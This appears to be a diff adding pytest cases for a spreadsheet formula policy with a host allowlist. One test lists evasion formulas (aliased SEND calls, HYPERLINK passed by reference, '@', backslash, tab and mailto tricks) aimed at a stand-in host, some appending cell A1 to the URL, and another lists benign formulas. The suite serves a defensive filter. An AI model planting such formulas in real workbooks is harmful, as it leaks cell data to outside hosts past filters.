@@ -86,3 +86,38 @@ def test_nesting_hides_nothing(name: str, wraps: list[str]) -> None:
 )
 def test_what_becomes_a_formula(text: str, is_one: bool) -> None:
     assert is_formula(text) is is_one
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=LET(x,SEND(A1),SEND,LAMBDA(a,a),x)",
+        "=LET(SEND,SEND(A1),SEND)",
+        "=MAP(A1:A3,HYPERLINK)",
+        '=(HYPERLINK)("https://q9z.example/"&A1)',
+        '=HYPERLINK("https://q9z.example\\@shop.example/")',
+        '=HYPERLINK("https://q9z.example@shop.example/")',
+        '=HYPERLINK("https://shop.example@q9z.example/")',
+        '=HYPERLINK("https://q9z.example\t/@shop.example/")',
+        '=HYPERLINK("mailto:a@shop.example,b@q9z.example")',
+        '=HYPERLINK("mailto:a@shop.example?cc=b@q9z.example")',
+        '=HYPERLINK("//shop.example/")',
+    ],
+)
+def test_ways_around_a_name_or_an_address(formula: str) -> None:
+    assert FunctionPolicy(hosts=frozenset({"shop.example"})).refusals(formula)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=LET(f,LAMBDA(a,a+1),g,f(2),g+f(1))",
+        "=LAMBDA(f,f(1))(LAMBDA(x,x))",
+        "=LET(ai,1,ai+1)",
+        '=HYPERLINK("https://shop.example:8443/a b?c#d")',
+        '=HYPERLINK("shop.example?page=1")',
+        '=HYPERLINK("mailto:a@shop.example?subject=Order 7")',
+    ],
+)
+def test_names_and_addresses_that_are_what_they_look_like(formula: str) -> None:
+    assert FunctionPolicy(hosts=frozenset({"shop.example"}), services=False).refusals(formula) == ()
